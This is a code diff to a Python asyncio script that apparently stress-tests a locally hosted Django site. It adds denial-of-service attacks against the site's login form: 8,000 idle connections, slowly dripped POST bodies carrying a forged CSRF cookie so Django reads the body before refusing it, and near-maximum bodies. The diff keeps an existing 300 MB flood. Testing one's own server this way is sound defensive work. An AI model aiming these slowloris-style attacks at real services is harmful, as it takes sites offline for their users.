@@ -11,7 +11,7 @@ from collections.abc import Callable, Coroutine, Iterator
 from contextlib import contextmanager, suppress
 from typing import Final, NamedTuple, TypeAlias
 
-HALF_OPEN, SLOW_BODIES, FLOOD = 1000, 200, 300 * 1024 * 1024
+HALF_OPEN, IDLE, ENDLESS, SLOW_BODIES, FLOOD = 1000, 8000, 340, 200, 300 * 1024 * 1024
 BEGINNING: Final = 3.0  # seconds until an attack is in full swing, without TLS
 HOST: Final = "127.0.0.1"
 
@@ -43,9 +43,26 @@ async def half_open(target: Target) -> None:
     await asyncio.gather(*(hold(target, target.head("GET / HTTP/1.1", "")) for _ in range(HALF_OPEN)))
 
 
-async def slow_bodies(target: Target) -> None:
-    head = target.head("POST /account/login/ HTTP/1.1", "Content-Length: 100000", "", "")
+async def slow_bodies(target: Target, *headers: str) -> None:
+    form = ("Content-Type: application/x-www-form-urlencoded", "Content-Length: 100000")
+    head = target.head("POST /account/login/ HTTP/1.1", *form, *headers, "", "")
     await asyncio.gather(*(hold(target, head, dripping=True) for _ in range(SLOW_BODIES)))
+
+
+async def slow_forms(target: Target) -> None:
+    """With a cookie against forged forms: only then Django reads the body before it refuses."""
+    await slow_bodies(target, f"Cookie: csrftoken={'b' * 32}")
+
+
+async def endless_bodies(target: Target) -> None:
+    """All but the last byte of what anybody may send."""
+    form = ("Content-Type: application/x-www-form-urlencoded", "Content-Length: 1000000")
+    head = target.head("POST /account/login/ HTTP/1.1", *form, f"Cookie: csrftoken={'b' * 32}", "", "")
+    await asyncio.gather(*(hold(target, head + b"x" * 999_999) for _ in range(ENDLESS)))
+
+
+async def idle(target: Target) -> None:
+    await asyncio.gather(*(hold(target, b"") for _ in range(IDLE)))
 
 
 async def hold(target: Target, head: bytes, *, dripping: bool = False) -> None:
@@ -86,7 +103,9 @@ async def pour(target: Target, head: bytes, piece: bytes) -> None:
 ATTACKS: Final[dict[str, Attack]] = {
     "nobody else": nothing,
     "1,000 half heads": half_open,
+    "8,000 idle connections": idle,
     "200 slow bodies": slow_bodies,
+    "200 slow bodies with a cookie": slow_forms,
     "300 MB, twice": flood,
 }
 
